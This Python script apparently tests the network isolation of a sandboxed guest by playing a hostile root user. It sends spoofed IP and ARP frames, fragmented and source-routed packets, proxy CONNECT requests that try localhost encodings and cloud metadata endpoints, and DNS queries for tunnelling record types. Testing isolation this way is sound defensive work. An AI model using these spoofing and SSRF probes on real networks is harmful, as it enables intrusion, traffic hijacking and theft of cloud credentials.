"""What a hostile root of a mediated guest tries. Prints a line for each attempt that had an answer.

Arguments: the guest's address, the gateway, and the address of a host outside.
"""
import os
import socket
import struct
import sys

own, gateway, outside = sys.argv[1:]


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, protocol, payload, options=b"", fragment=0):
    length = 20 + len(options)
    head = struct.pack("!BBHHHBBH4s4s", 0x40 | length // 4, 0, length + len(payload), 7, fragment, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def tcp(source, target, port, flags=2):
    head = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 0x50, flags, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(head))
    return head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]


def udp(port, data=b"x"):
    return struct.pack("!HHHH", 40000, port, 8 + len(data), 0) + data


raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0))
mac = raw.getsockname()[4]
# The gateway's hardware address, from the table that a question filled.
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"", (gateway, 18053))
entry = [line.split() for line in open("/proc/net/arp") if line.startswith(gateway + " ")]
router = bytes.fromhex(entry[0][3].replace(":", "")) if entry else b"\xff" * 6


def frame(payload, kind=0x0800, source=mac, target=None):
    try:
        raw.send((target or router) + source + struct.pack("!H", kind) + payload)
    except OSError as error:
        print("send", error)


neighbour = own.rsplit(".", 1)[0] + ".250"
for address in (neighbour, "192.0.2.7", outside):
    frame(packet(address, outside, 17, udp(9999)))
    frame(packet(address, outside, 6, tcp(address, outside, 22)))
frame(packet(own, outside, 17, udp(9999)), source=b"\2\0\0\0\0\7")
for protocol in (1, 2, 33, 41, 47, 50, 51, 132, 255):
    frame(packet(own, outside, protocol, b"\x08\0\0\0" + b"payload!" * 4))
for port in (22, 25, 443, 853, 8443, 9999, 51820):
    frame(packet(own, outside, 17, udp(port)))
for port in (22, 25, 853, 8443, 9999):
    for flags in (0x02, 0x10, 0x12, 0x29, 0x00):
        frame(packet(own, outside, 6, tcp(own, outside, port, flags)))
# Fragments: a SYN in two parts, and a first part too small for ports.
syn = tcp(own, outside, 22)
frame(packet(own, outside, 6, syn[:8], fragment=0x2000))
frame(packet(own, outside, 6, syn[8:], fragment=1))
# Routes that the sender chose.
for kind in (131, 137, 7):
    frame(packet(own, outside, 17, udp(9999), options=bytes([kind, 7, 4]) + socket.inet_aton(outside) + b"\0"))
# IPv6, tags of a VLAN, spanning tree, discovery of links.
frame(b"\x60" + b"\0" * 39, kind=0x86DD)
frame(struct.pack("!HH", 5, 0x0800) + packet(own, outside, 17, udp(9999)), kind=0x8100)
for group in (b"\1\x80\xc2\0\0\0", b"\1\x80\xc2\0\0\x0e", b"\1\0\x5e\0\0\xfb"):
    frame(packet(own, outside, 17, udp(9999)), target=group)
# ARP that claims the gateway and a neighbour.
for claimed in (gateway, neighbour):
    frame(struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, socket.inet_aton(claimed), b"\xff" * 6,
                      socket.inet_aton(claimed)), kind=0x0806, target=b"\xff" * 6)
raw.close()


def connects(address, port, seconds=3):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(seconds)
        try:
            sock.connect((address, port))
            return True
        except OSError:
            return False


# Services of the host at each of its addresses, with all of its open ports.
for port in (22, 111, 5000, 8080, 8081):
    for address in (gateway, "203.0.113.1", "127.0.0.1"):
        if connects(address, port, 1):
            print("connected", address, port)
for port in (22, 25, 853, 8443):
    if connects(outside, port):
        print("connected", outside, port)


def proxy(head, address=gateway, port=18080):
    """Sends a head to the proxy, and returns its first line."""
    try:
        with socket.create_connection((address, port), 20) as sock:
            sock.sendall(head.encode())
            return sock.recv(4096).split(b"\r\n")[0].decode(errors="replace")
    except OSError:
        return ""


# Connections to the ports of HTTP are accepted by the proxy, which goes nowhere near the host with them.
for address in ("203.0.113.1", "169.254.169.254", neighbour):
    line = proxy(f"GET / HTTP/1.1\r\nHost: {address}\r\n\r\n", address, 80)
    if " 200" in line:
        print("carried", address, line)


for target in ("127.0.0.1:8080", "0.0.0.0:8080", "[::1]:8080", "[::ffff:127.0.0.1]:8080", "2130706433:8080",
               "0x7f.1:8080", "127.1:8080", "0177.0.0.1:8080", "localhost:8080", "localhost.:8080", f"{gateway}:8080",
               f"{gateway}:18080", f"{gateway}:18443", f"{neighbour}:22", "203.0.113.1:8080", "169.254.169.254:80",
               "[fd00:ec2::254]:80", "100.100.100.200:80", "192.0.0.192:80", "inward.example.com:80",
               "metadata.google.internal:80", "[64:ff9b::7f00:1]:80", "[2002:7f00:1::]:80"):
    line = proxy(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")
    if " 200" in line:
        print("carried", target, line)
for head in (f"GET http://{outside}@127.0.0.1:8080/ HTTP/1.1\r\nHost: {outside}\r\n\r\n",
             f"GET http://127.0.0.1:8080/ HTTP/1.1\r\nHost: {outside}\r\n\r\n",
             "GET ftp://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
             "GET // HTTP/1.1\r\nHost: api.example.com\r\nHost: other.example.com\r\n\r\n",
             "CONNECT api.example.com HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
             "CONNECT api.example.com:443/x HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
             "CONNECT api.example.com:0 HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
             "CONNECT api.example.com:443@other.example.com:443 HTTP/1.1\r\nHost: a\r\n\r\n",
             "TRACE http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n"):
    line = proxy(head)
    if " 200" in line:
        print("carried", repr(head), line)


def question(kind, name=b"\3api\7example\3com\0"):
    return b"\1\2\1\0\0\1\0\0\0\0\0\0" + name + struct.pack("!HH", kind, 1)


def ask(message, server="8.8.8.8"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(message, (server, 53))
        try:
            return sock.recv(4096)
        except OSError:
            return b""


# Any server is ours: it answers for addresses, and for nothing that a tunnel needs.
answer = ask(question(1))
if answer[6:8] != b"\0\1":
    print("no address", answer)
for kind in (10, 15, 16, 33, 35, 65, 255, 252):
    answer = ask(question(kind))
    if answer[6:8] not in (b"", b"\0\0"):
        print("answered", kind, answer)
print("done")
